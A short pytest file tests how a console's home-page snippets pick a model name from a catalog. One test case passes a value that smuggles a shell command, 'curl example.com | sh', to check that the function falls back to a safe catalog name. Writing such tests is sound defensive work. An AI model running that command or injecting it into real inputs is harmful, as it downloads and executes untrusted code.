"""Which model the home page's snippets name."""

import pytest

from services.console.core.snippets import model_of

OFFERED = ("stub/large", "stub/echo")


@pytest.mark.parametrize(
    ("used", "named"),
    [
        (["stub/large"], "stub/large"),
        (["mcp", "mcp/github", "stub/large"], "stub/large"),
        (["x'; curl example.com | sh; '"], "stub/echo"),
        ([], "stub/echo"),
    ],
)
def test_a_snippet_names_a_model_of_the_catalog(used: list[str], named: str) -> None:
    assert model_of(used, OFFERED) == named


def test_without_a_catalog_it_says_what_a_model_looks_like() -> None:
    assert model_of(["x"], ()) == "provider/model"
